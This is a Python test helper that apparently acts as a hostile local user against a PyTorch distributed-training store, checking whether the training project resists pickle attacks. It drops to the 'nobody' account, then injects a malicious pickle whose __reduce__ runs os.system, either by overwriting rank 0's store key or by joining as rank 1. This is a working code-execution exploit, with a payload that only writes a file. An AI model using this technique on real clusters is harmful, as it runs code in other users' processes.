"""Act as another user who takes the place of rank 1, or changes the store.

Usage: `attack_ranks.py store|group FILE`, with the port on stdin.

It sends pickles that touch FILE when they are read, and stays until its stdin ends.
"""

from __future__ import annotations

import os
import pickle
import pwd
import sys
import threading
import traceback
from datetime import timedelta

import torch.distributed as dist

#: Prefix of the keys of the first attempt's ranks.
PREFIX = "hpctrain//0"


class Evil:
    """Touches a file when it is unpickled."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"id > {sys.argv[2]}",)


def attack(mode: str, port: int) -> None:
    store = dist.TCPStore(
        "127.0.0.1", port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=60)
    )
    if mode == "store":
        key = f"{PREFIX}/devices/answer"
        # Wait for the answer of rank 0.
        store.get(key)
        store.set(key, pickle.dumps(Evil(), protocol=0).decode("ascii"))
        print("sent", flush=True)
        # The connection stays open, which exposes the user.
        threading.Event().wait()
    store.get(f"{PREFIX}/devices/answer")
    print("sent", flush=True)
    dist.init_process_group("gloo", store=dist.PrefixStore(PREFIX, store), rank=1, world_size=2)
    while True:
        dist.all_gather_object([None, None], Evil())


def attack_or_exit(mode: str, port: int) -> None:
    try:
        attack(mode, port)
    except BaseException:  # noqa: BLE001
        traceback.print_exc()
        os._exit(1)  # the test waits for our output


def main() -> None:
    if os.geteuid() == 0:
        # Only now: other users may not be able to read the installation.
        nobody = pwd.getpwnam("nobody")
        os.setgroups([])
        os.setgid(nobody.pw_gid)
        os.setuid(nobody.pw_uid)
    print("ready", flush=True)
    port = int(sys.stdin.readline())
    threading.Thread(target=attack_or_exit, args=(sys.argv[1], port), daemon=True).start()
    sys.stdin.read()
    os._exit(0)


main()
